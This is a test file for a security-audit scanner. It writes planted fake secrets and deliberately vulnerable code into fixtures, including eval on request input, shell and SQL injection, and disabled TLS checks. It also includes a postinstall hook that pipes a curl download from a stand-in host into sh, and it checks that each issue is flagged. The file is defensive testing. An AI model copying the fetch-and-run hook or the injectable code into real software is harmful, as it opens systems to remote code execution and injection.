import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { securityAudit, type SecurityAuditSuccess } from '../../../agents/security-agent/audit.js';
import { defineLane, type LanePayload } from '../../../src/worker-sdk/lane-definition.js';
import { shannonEntropy } from '../../../agents/security-agent/entropy.js';
import { maskSecret } from '../../../agents/security-agent/mask.js';

// Planted values, assembled so this test file does not itself read as a committed secret.
const AWS_KEY_ID = ['AKIA', 'Z7QW3XK2', 'M9TR4LPB'].join('');
const DB_PASSWORD = ['s3cr3t', '-Horse', '-Battery'].join('');
const GITHUB_TOKEN = ['ghp_', 'a1B2c3D4e5F6g7H8i9J0', 'k1L2m3N4o5P6q7R8s9T0'].join('');
const RANDOM_SIGNING_VALUE = ['q8Zr2LmX', '9vTn4KwB', '7pYc1HdF', '3sGj6RaE'].join('');

const FILES: Record<string, string> = {
  'app/.env': [`# local settings`, `PORT=8080`, `DB_PASSWORD=${DB_PASSWORD}`, `AWS_ACCESS_KEY_ID=${AWS_KEY_ID}`, `API_KEY=\${API_KEY_FROM_VAULT}`].join('\n'),
  'app/.npmrc': `//registry.npmjs.org/:_authToken=\${NPM_TOKEN}\n`,
  'app/config/deploy.yaml': `service: billing\nsigning: ${RANDOM_SIGNING_VALUE}\nreplicas: 3\n`,
  'app/src/server.js': [
    `import { exec } from 'node:child_process';`,
    `export function handler(req, res) {`,
    `  const expr = req.query.expr;`,
    `  const value = eval(expr);`,
    `  exec('convert ' + req.body.file, () => {});`,
    `  db.query(\`SELECT * FROM users WHERE id = \${req.params.id}\`);`,
    `  res.send(String(value));`,
    `}`,
    `// eval( in a comment is not a call`,
    `const agent = new https.Agent({ rejectUnauthorized: false });`,
    `page.evaluate(() => 1);`,
  ].join('\n'),
  'app/src/ui.ts': `export function show(el: HTMLElement, html: string) {\n  el.innerHTML = html;\n}\nconst token = "${GITHUB_TOKEN}";\n`,
  'app/scripts/setup.sh': `#!/bin/sh\nchmod 777 /srv/uploads\nexport NODE_TLS_REJECT_UNAUTHORIZED=0\n`,
  'app/package.json': JSON.stringify(
    {
      name: 'billing',
      version: '1.0.0',
      scripts: { postinstall: 'curl -s https://example.invalid/setup.sh | sh', test: 'vitest' },
      dependencies: { express: '^4.19.2', leftpad: '*', tooling: 'git+https://github.com/acme/tooling.git', legacy: 'http://example.invalid/legacy.tgz' },
      devDependencies: { helper: 'file:../helper', next: 'latest' },
    },
    null,
    2,
  ),
  'app/test/fixtures/sample.env': `API_TOKEN=${RANDOM_SIGNING_VALUE}\n`,
  'app/node_modules/dep/index.js': `eval("1"); const password = "${DB_PASSWORD}";`,
  'app/.git/config': `password = ${DB_PASSWORD}\n`,
  'app/README.md': `Set DB_PASSWORD in .env; never commit it.\n`,
  'empty/.keep': '',
};

describe('security-audit lane', () => {
  let root: string;
  const run = (payload: LanePayload<'security-audit'>) => securityAudit(payload, { workspaceRoot: root, runId: null });
  const scan = () => run({ type: 'scan', scope: 'app' }) as SecurityAuditSuccess;
  const finding = (result: SecurityAuditSuccess, rule: string, file: string) => result.findings.find((f) => f.rule === rule && f.file === file);

  beforeAll(() => {
    root = mkdtempSync(join(tmpdir(), 'security-audit-'));
    for (const [path, content] of Object.entries(FILES)) {
      mkdirSync(dirname(join(root, path)), { recursive: true });
      writeFileSync(join(root, path), content);
    }
    chmodSync(join(root, 'app/.env'), 0o644);
    chmodSync(join(root, 'app/scripts/setup.sh'), 0o777);
    chmodSync(join(root, 'app/src/ui.ts'), 0o644);
  });
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  it('finds the secrets committed in dotfiles and config, at their lines, with masked evidence', () => {
    const result = scan();
    expect(result.success).toBe(true);
    expect(finding(result, 'credential-assignment', 'app/.env')).toMatchObject({ severity: 'high', line: 3 });
    expect(finding(result, 'aws-access-key-id', 'app/.env')).toMatchObject({ severity: 'critical', line: 4 });
    expect(finding(result, 'github-token', 'app/src/ui.ts')).toMatchObject({ line: 4 });
    expect(finding(result, 'high-entropy-value', 'app/config/deploy.yaml')).toMatchObject({ line: 2, severity: 'medium' });
    expect(finding(result, 'credential-assignment', 'app/.env')!.evidence).toBe(`DB_PASSWORD = ${maskSecret(DB_PASSWORD)}`);
    expect(maskSecret(DB_PASSWORD)).toBe('s3cr…(20 chars)');
    expect(maskSecret('hunter2')).toBe('h…(7 chars)');

    const everything = JSON.stringify(result);
    for (const secret of [AWS_KEY_ID, DB_PASSWORD, GITHUB_TOKEN, RANDOM_SIGNING_VALUE]) expect(everything).not.toContain(secret);
  });

  it('leaves variable references, node_modules and .git alone', () => {
    const result = scan();
    expect(result.findings.filter((f) => f.file === 'app/.env').map((f) => f.line)).toEqual([null, 3, 4]);
    expect(result.findings.some((f) => f.file === 'app/.npmrc')).toBe(false);
    expect(result.findings.some((f) => f.file.includes('node_modules') || f.file.includes('.git/'))).toBe(false);
    expect(result.findings.some((f) => f.file === 'app/README.md')).toBe(false);
  });

  it('flags dangerous code, and not its look-alikes in comments or method names', () => {
    const result = scan();
    const server = result.findings.filter((f) => f.file === 'app/src/server.js').map((f) => [f.rule, f.line]);
    expect(server).toEqual([
      ['eval-call', 4],
      ['shell-exec-interpolated', 5],
      ['sql-string-concatenation', 6],
      ['tls-verification-disabled', 10],
    ]);
    expect(finding(result, 'inner-html-assignment', 'app/src/ui.ts')).toMatchObject({ line: 2 });
    expect(finding(result, 'chmod-777', 'app/scripts/setup.sh')).toMatchObject({ line: 2 });
    expect(finding(result, 'tls-verification-disabled', 'app/scripts/setup.sh')).toMatchObject({ line: 3 });
  });

  it('flags risky dependency declarations and install scripts at their manifest lines', () => {
    const result = run({ type: 'deps', scope: 'app' }) as SecurityAuditSuccess;
    expect(result.rulesRun).toEqual(['dependency-declarations']);
    const byRule = Object.fromEntries(result.findings.map((f) => [f.evidence.split(' ')[0], f.rule]));
    expect(byRule).toEqual({
      'dependencies.leftpad': 'dependency-unpinned',
      'dependencies.tooling': 'dependency-git-source',
      'dependencies.legacy': 'dependency-insecure-url',
      'devDependencies.helper': 'dependency-local-path',
      'devDependencies.next': 'dependency-unpinned',
      'scripts.postinstall': 'install-script',
    });
    expect(finding(result, 'install-script', 'app/package.json')).toMatchObject({ severity: 'high', line: 5 });
    expect(result.findings.find((f) => f.evidence.startsWith('dependencies.leftpad'))!.line).toBe(10);
  });

  it('flags readable env files and world-writable files', () => {
    const result = run({ type: 'secrets', scope: 'app' }) as SecurityAuditSuccess;
    expect(finding(result, 'sensitive-file-readable', 'app/.env')).toMatchObject({ severity: 'medium', line: null });
    expect(finding(result, 'world-writable-file', 'app/scripts/setup.sh')?.evidence).toMatch(/mode 777/);
    expect(result.findings.some((f) => f.rule === 'eval-call')).toBe(false);
  });

  it('ranks a deployed secret above reachable dangerous code above dependency declarations, and explains why', () => {
    const result = scan();
    const ranking = result.exploitabilityRanking;
    expect(ranking).toHaveLength(result.findings.length);
    expect(ranking[0]).toMatchObject({ rank: 1, rule: 'aws-access-key-id', file: 'app/.env' });
    expect(ranking[0]!.factors).toContain('in a deployed config file');
    const position = (rule: string, file: string) => ranking.findIndex((f) => f.rule === rule && f.file === file);
    expect(position('eval-call', 'app/src/server.js')).toBeLessThan(position('dependency-unpinned', 'app/package.json'));
    expect(ranking[position('eval-call', 'app/src/server.js')]!.factors).toContain('reachable from input read nearby');
    const fixtureSecret = position('credential-assignment', 'app/test/fixtures/sample.env');
    expect(fixtureSecret).toBeGreaterThan(position('credential-assignment', 'app/.env'));
    expect(ranking[fixtureSecret]!.factors).toContain('in a test, fixture, example or doc path');
    expect(result.rankingBasis.length).toBeGreaterThan(2);
  });

  it('runs only the families of the requested type and names them', () => {
    expect((run({ type: 'code', scope: 'app' }) as SecurityAuditSuccess).rulesRun).toEqual(['dangerous-code']);
    expect(scan().rulesRun).toHaveLength(5);
    expect((run({ scope: 'app/src/server.js' }) as SecurityAuditSuccess).findings.map((f) => f.rule)).toContain('eval-call');
  });

  it('refuses scopes outside the workspace, missing scopes and scopes with nothing to audit', () => {
    for (const [payload, reason] of [
      [{ scope: '../elsewhere' }, /escapes the workspace root/],
      [{ scope: 'missing' }, /does not exist/],
      [{ scope: '  ' }, /is empty/],
      [{ type: 'deps', scope: 'app/src' }, /no package\.json/],
    ] as const) {
      const result = run(payload);
      expect(result.success).toBe(false);
      expect(result.specialistContract).toMatchObject({ status: 'refused', refusalReason: expect.stringMatching(reason) });
    }
  });

  it('never runs on an unknown audit type or a missing scope: the schema refuses them first', async () => {
    const lane = defineLane('security-audit', securityAudit);
    const context = { workspaceRoot: root, runId: null };
    expect(await lane.run({ type: 'everything', scope: 'app' }, context)).toMatchObject({
      success: false,
      error: 'payload refused: /type must be one of: scan, secrets, code, deps',
    });
    expect(await lane.run({ type: 'scan' }, context)).toMatchObject({ success: false, error: 'payload refused: /scope is required' });
  });

  it('measures entropy in bits per character', () => {
    expect(shannonEntropy('aaaa')).toBe(0);
    expect(shannonEntropy('abcd')).toBe(2);
  });
});
